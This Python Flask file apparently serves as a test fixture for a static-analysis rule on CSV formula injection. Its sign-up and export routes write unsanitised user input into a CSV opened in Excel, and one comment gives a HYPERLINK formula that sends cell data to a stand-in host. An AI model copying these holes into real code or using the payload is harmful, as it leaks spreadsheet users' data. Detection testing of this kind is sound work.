"""Event sign-ups are appended to a CSV that the organisers open in Excel."""

import csv
import io

from flask import Flask, Response, jsonify, request

app = Flask(__name__)
SIGNUPS = "/srv/events/signups.csv"


@app.route("/signup", methods=["POST"])
def signup():
    with open(SIGNUPS, "a", newline="") as fh:
        writer = csv.writer(fh)
        # name==HYPERLINK("https://evil.example/?d="&A1,"Click") runs when the sheet is opened.
        writer.writerow([request.form["name"], request.form.get("email", ""), request.form.get("team", "")])  # expect: PYTHON-FLASK-SEC-009
    return jsonify(ok=True)


@app.route("/signup/json", methods=["POST"])
def signup_json():
    payload = request.get_json()
    row = {"name": payload["name"], "comment": payload.get("comment", "")}
    with open(SIGNUPS, "a", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=["name", "comment"])
        writer.writerow(row)  # expect: PYTHON-FLASK-SEC-009
    return jsonify(ok=True)


@app.route("/signup/bulk", methods=["POST"])
def bulk():
    rows = []
    for line in request.get_data(as_text=True).splitlines():
        name, _, email = line.partition(";")
        rows.append([name.strip(), email.strip()])
    with open(SIGNUPS, "a", newline="") as fh:
        # Engine gaps: list.append() does not yet taint the list, and a method called on a call's
        # result (csv.writer(fh).writerows) is not yet checked as a sink.
        csv.writer(fh).writerows(rows)  # expect: PYTHON-FLASK-SEC-009
    return jsonify(added=len(rows))


@app.route("/signup/fields", methods=["POST"])
def fields():
    with open(SIGNUPS, "a", newline="") as fh:
        writer = csv.writer(fh)
        for field in request.form:
            writer.writerow([field, request.form[field]])  # expect: PYTHON-FLASK-SEC-009
    return jsonify(ok=True)


@app.route("/export")
def export():
    title = request.args.get("title", "Sign-ups")
    if request.args.get("with_date"):
        title = "%s (exported)" % title
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([f"Report: {title}"])  # expect: PYTHON-FLASK-SEC-009
    return Response(out.getvalue(), mimetype="text/csv")
